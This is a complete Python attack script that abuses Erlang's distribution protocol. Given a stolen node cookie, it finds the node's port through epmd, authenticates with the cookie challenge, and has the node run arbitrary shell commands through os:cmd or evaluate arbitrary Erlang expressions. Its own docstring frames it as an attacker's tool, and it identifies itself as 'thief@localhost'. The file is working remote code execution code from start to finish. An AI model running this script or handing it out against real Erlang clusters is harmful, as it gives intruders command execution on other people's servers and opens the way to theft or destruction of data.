#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""
An attacker who has an Erlang node's cookie: has the node evaluate a call, as every node of a cluster may.

usage: distribution.py HOST NODE COOKIE os TEXT        os:cmd("TEXT")
       distribution.py HOST NODE COOKIE eval TEXT      Erlang expressions with commas between, a full stop behind
Prints the strings of the answer. The protocol: Erlang's "Distribution Protocol", its external term format.
"""
import hashlib
import os
import socket
import struct
import sys

FLAGS = (0x4 | 0x10 | 0x80 | 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x20000 | 0x40000 | 0x1000000 |
         0x2000000 | 0x400000000)
CREATION = 1
NAME = b"thief@localhost"


def atom(text):
    return b"w" + bytes([len(text)]) + text.encode()


def string(text):
    return b"k" + struct.pack("!H", len(text)) + text.encode()


def listed(*terms):
    return b"l" + struct.pack("!I", len(terms)) + b"".join(terms) + b"j"


def pair(*terms):
    return b"h" + bytes([len(terms)]) + b"".join(terms)


def pid():
    return b"X" + atom(NAME.decode()) + struct.pack("!III", 1, 0, CREATION)


def term_end(data, i):
    """Where the term that begins at i ends."""
    tag, i = data[i], i + 1
    if tag in b"hlit":  # tuples, lists, maps
        n = data[i] if tag == 104 else struct.unpack("!I", data[i:i + 4])[0]
        i += 1 if tag == 104 else 4
        for _ in range({104: n, 105: n, 108: n + 1, 116: 2 * n}[tag]):
            i = term_end(data, i)
        return i
    if tag in b"km":  # strings, binaries
        size = 2 if tag == 107 else 4
        return i + size + int.from_bytes(data[i:i + size], "big")
    if tag in b"dvsw":  # atoms
        size = 2 if tag in b"dv" else 1
        return i + size + int.from_bytes(data[i:i + size], "big")
    if tag == 110:  # a large number
        return i + 2 + data[i]
    if tag == 88:  # a process
        return term_end(data, i) + 12
    if tag == 90:  # a reference
        return term_end(data, i + 2) + 4 + 4 * struct.unpack("!H", data[i:i + 2])[0]
    return i + {97: 1, 98: 4, 106: 0, 70: 8}[tag]


def elements(data):
    """The parts of a small tuple."""
    i, parts = 2, []
    for _ in range(data[1]):
        end = term_end(data, i)
        parts.append(data[i:end])
        i = end
    return parts


def port_of(host, node):
    """Asks the port mapper, epmd."""
    name = node.split("@")[0].encode()
    with socket.create_connection((host, 4369), 10) as s:
        s.sendall(struct.pack("!HB", 1 + len(name), 122) + name)
        answer = s.recv(64)
    if answer[1]:
        sys.exit("distribution.py: no such node")
    return struct.unpack("!H", answer[2:4])[0]


class Connection:
    def __init__(self, host, node, cookie):
        self.socket = socket.create_connection((host, port_of(host, node)), 10)
        self.socket.settimeout(30)
        self.shake(cookie)

    def exact(self, n):
        data = b""
        while len(data) < n:
            more = self.socket.recv(n - len(data))
            if not more:
                sys.exit("distribution.py: the node closed the connection")
            data += more
        return data

    def shake(self, cookie):
        self.put(b"N" + struct.pack("!QIH", FLAGS, CREATION, len(NAME)) + NAME)
        status = self.get()
        if not status.startswith(b"sok"):
            sys.exit(f"distribution.py: {status!r}")
        challenge = struct.unpack("!I", self.get()[9:13])[0]
        digest = hashlib.md5(cookie.encode() + str(challenge).encode()).digest()
        self.put(b"r" + os.urandom(4) + digest)
        if self.get()[:1] != b"a":
            sys.exit("distribution.py: wrong cookie")

    def put(self, data):
        self.socket.sendall(struct.pack("!H", len(data)) + data)

    def get(self):
        return self.exact(struct.unpack("!H", self.exact(2))[0])

    def call(self, module, function, *arguments):
        control = pair(b"a\x06", pid(), atom(""), atom("rex"))
        message = pair(pid(), pair(atom("call"), atom(module), atom(function), listed(*arguments), atom("user")))
        data = b"p\x83" + control + b"\x83" + message
        self.socket.sendall(struct.pack("!I", len(data)) + data)
        while True:
            size = struct.unpack("!I", self.exact(4))[0]
            if size == 0:
                self.socket.sendall(bytes(4))
                continue
            answer = self.exact(size)
            text = answer[term_end(answer, 2) + 1:]
            if text[:1] == b"h" and elements(text)[0] == atom("rex"):
                return elements(text)[1]


def evaluate(connection, text):
    """Scanned, parsed and evaluated by the node."""
    term = string(text)
    for module, function in [("erl_scan", "string"), ("erl_parse", "parse_exprs")]:
        answer = elements(connection.call(module, function, term))
        if answer[0] != atom("ok"):
            sys.exit(f"distribution.py: {answer!r}")
        term = answer[1]
    return connection.call("erl_eval", "exprs", term, b"j")


def main():
    host, node, cookie, what, text = sys.argv[1:]
    connection = Connection(host, node, cookie)
    if what == "os":
        answer = connection.call("os", "cmd", string(text))
    else:
        answer = evaluate(connection, text)
    sys.stdout.write("".join(chr(c) if 32 <= c < 127 or c == 10 else " " for c in answer) + "\n")


main()
